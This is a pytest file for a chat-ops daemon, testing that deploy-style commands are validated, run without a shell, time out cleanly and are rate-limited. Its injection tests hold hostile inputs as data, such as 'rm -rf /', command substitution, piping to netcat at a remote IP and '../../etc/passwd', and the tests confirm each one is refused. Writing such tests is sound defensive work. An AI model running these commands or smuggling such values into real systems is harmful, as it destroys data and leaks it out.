"""Operations commands through the running App: validation before anything runs, no shell,
timeouts kill the process group, output and exit status reported, concurrency limited."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from chatopsd.core.errors import UsageError
from chatopsd.features.approvals.service import ApprovalService
from chatopsd.features.ops.runner import ArgRule, render, run_argv, validate
from tests.conftest import FakeClock
from tests.opsrig import OpsRig, texts
from tests.waiting import eventually


@pytest.fixture
async def rig(
    tmp_path: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[OpsRig]:
    monkeypatch.setenv("OPS_OUT", str(tmp_path / "runs.jsonl"))
    monkeypatch.setenv("CHATOPSD_SLACK_BOT_TOKEN", "xoxb-test-not-for-children")
    r = await OpsRig(tmp_path, clock).start()
    yield r
    await r.stop()


INJECTIONS = [
    "; rm -rf /",
    "api; rm -rf /",
    "$(touch /tmp/pwned)",
    "`id`",
    "api && reboot",
    "api | nc 1.2.3.4 1",
    "api\nrm -rf /",
    "api\rx",
    "../../etc/passwd",
    "--upload-pack=touch /tmp/x",
    "-rf",
    "api\x00x",
    "API",  # the pattern is lower-case only
    "",
]


@pytest.mark.parametrize("value", INJECTIONS)
async def test_injection_attempts_are_refused_before_anything_runs(rig: OpsRig, value: str) -> None:
    quoted = '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
    lines = await rig.say("alice", f"!deploy {quoted} 1.2 staging")
    assert rig.runs() == []
    assert "service" in texts(lines)
    assert await rig.app.part(ApprovalService).store.pending() == []  # not even an approval request


async def test_bad_choice_and_version_are_refused(rig: OpsRig) -> None:
    lines = await rig.say("alice", "!deploy api 1.2 prod")
    assert "env must be one of staging, production" in texts(lines)
    lines = await rig.say("alice", "!deploy api '1.2$(id)' staging")
    assert "version" in texts(lines)
    assert rig.runs() == []


def test_templating_fills_one_element_only() -> None:
    argv = render(["/bin/x", "{a}", "--b={b}", "{a}{b}"], {"a": "1 2; rm -rf /", "b": "$(id)"})
    assert argv == ["/bin/x", "1 2; rm -rf /", "--b=$(id)", "1 2; rm -rf /$(id)"]


def test_validation_checks_every_argument_first() -> None:
    rules = [ArgRule("a", pattern="[a-z]+"), ArgRule("b", choices=("x", "y"))]
    assert validate(rules, {"a": "ok", "b": "Y"}) == {"a": "ok", "b": "y"}
    with pytest.raises(UsageError, match="b must be one of"):
        validate(rules, {"a": "ok", "b": "z"})
    with pytest.raises(UsageError, match="missing <b>"):
        validate(rules, {"a": "ok"})


async def test_runs_without_approval_reports_output_status_and_duration(rig: OpsRig) -> None:
    lines = await rig.say("alice", "!deploy api 1.2 staging")
    assert [r["argv"] for r in rig.runs()] == [["api", "1.2", "staging"]]
    assert rig.runs()[0]["leaked"] == []  # our tokens never reach the child
    assert rig.runs()[0]["actor"] == "alice"
    out = texts(lines)
    assert "running !deploy api 1.2 staging" in out
    assert "finished OK (exit 0) in" in out
    assert "hello from api | 1.2 | staging" in out
    rows = await rig.app.audit.since(None)
    assert any(
        r.command == "deploy (run)" and r.outcome == "ok" and (r.cause or "").startswith("exit 0")
        for r in rows
    )


async def test_failure_exit_status_and_stderr_are_reported(rig: OpsRig) -> None:
    lines = await rig.say("alice", "!migrate fail")  # needs approval: exercise job instead
    assert "Approval needed" in texts(lines)
    lines = await rig.say("alice", "!slow fail")
    assert "FAILED with exit 3" in texts(lines)
    assert "something broke" in texts(lines)


async def test_long_output_is_truncated_keeping_the_tail(rig: OpsRig) -> None:
    lines = await rig.say("alice", "!slow loud")
    final = lines[-1]["text"]
    assert "THE END" in final
    assert "Output truncated" in final
    assert len(final) < 4000


async def test_timeout_kills_the_process_group_and_reports(rig: OpsRig, tmp_path: Path) -> None:
    lines = await rig.say("alice", "!job hang")
    assert "timed out after" in texts(lines)
    assert "killed" in texts(lines)
    child = int((tmp_path / "runs.jsonl.child").read_text())
    await eventually(lambda: not _alive(child), timeout=2)
    assert not _alive(child), "the grandchild survived the timeout"
    rows = await rig.app.audit.since(None)
    assert any(
        r.command == "job (run)" and r.outcome == "failed" and "timed out" in (r.cause or "")
        for r in rows
    )
    # the command's own row says so too: `chatopsd audit --outcome failed` finds it
    assert any(r.command == "job" and r.outcome == "failed" for r in rows)


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/status") as f:
            return "\nState:\tZ" not in f.read()
    except FileNotFoundError:
        return False


async def test_concurrent_runs_of_one_command_are_limited(rig: OpsRig, tmp_path: Path) -> None:
    first = rig.app.bus.submit(rig.event("alice", "!slow wait"))
    assert first is not None
    await eventually(lambda: rig.runs(), timeout=3)
    assert len(rig.runs()) == 1
    await rig.app.bus.handle(rig.event("bob", "!slow again"))
    await rig.app.outbox.flush(2)
    assert "already running" in texts(rig.new_lines())
    (tmp_path / "runs.jsonl.gate").write_text("go")
    await first
    lines = await rig.settle()
    assert "finished OK" in texts(lines)
    assert len(rig.runs()) == 1  # the refused one never started
    lines = await rig.say("bob", "!slow again")
    assert "finished OK" in texts(lines)


async def test_missing_program_is_a_clear_error() -> None:
    from chatopsd.core.errors import Unavailable

    with pytest.raises(Unavailable, match="cannot run /nonexistent/deploy"):
        await run_argv(["/nonexistent/deploy"], timeout=1)


async def test_cancelled_run_kills_its_group(tmp_path: Path) -> None:
    marker = tmp_path / "pid"
    code = f"import os,time; open({str(marker)!r},'w').write(str(os.getpid())); time.sleep(60)"
    import sys

    task = asyncio.ensure_future(run_argv([sys.executable, "-c", code], timeout=30))
    await eventually(lambda: marker.exists() and marker.read_text(), timeout=3)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert not _alive(int(marker.read_text()))


async def test_output_is_streamed_while_the_command_runs(tmp_path: Path) -> None:
    import sys

    seen: list[str] = []
    go = tmp_path / "go"

    async def progress(text: str) -> None:
        seen.append(text)
        if "step 0" in text:
            go.touch()  # the first output reached chat while the command still runs

    # The command prints its first step, then waits until that step was reported as
    # progress (the file), then finishes: partial output must come while it runs, whatever
    # the load on the machine (no timing between the two processes is assumed).
    code = (
        "import os, sys, time\n"
        "print('step 0', flush=True)\n"
        "while not os.path.exists(sys.argv[1]):\n"
        "    time.sleep(0.01)\n"
        "for i in (1, 2, 3):\n"
        "    print('step', i, flush=True)\n"
    )
    result = await run_argv(
        [sys.executable, "-c", code, str(go)],
        timeout=30,
        on_progress=progress,
        progress_interval=0.05,
    )
    assert result.exit_code == 0 and not result.timed_out
    assert "step 0" in result.output and "step 3" in result.output
    assert seen and "step 0" in seen[0] and "step 3" not in seen[0]  # partial output first


@pytest.mark.parametrize(
    ("command", "message"),
    [
        ({"name": "x", "args": ["a"], "run": ["/bin/x", "{b}"]}, "run refers to {b}"),
        ({"name": "x", "args": ["a"], "run": ["/bin/x"], "patterns": {"a": "("}}, "regex"),
        ({"name": "x", "args": ["a"], "run": ["/bin/x"], "choices": {"b": ["1"]}}, "'b'"),
        ({"name": "x", "args": [], "run": []}, "commands[0].run"),
        ({"name": "Bad Name!", "args": [], "run": ["/bin/x"]}, "commands[0].name"),
    ],
)
def test_bad_command_config_names_the_key(
    tmp_path: Path, command: dict[str, object], message: str
) -> None:

    from pydantic import ValidationError

    from chatopsd.config import Config, explain

    with pytest.raises(ValidationError) as info:
        Config.model_validate({"commands": [command]})
    assert message in "\n".join(explain(info.value))


def test_rule_for_an_unknown_command_is_refused() -> None:
    from pydantic import ValidationError

    from chatopsd.config import Config, explain

    with pytest.raises(ValidationError) as info:
        Config.model_validate({"approvals": {"rules": [{"command": "deploy"}]}})
    assert "no [[commands]] named that" in "\n".join(explain(info.value))
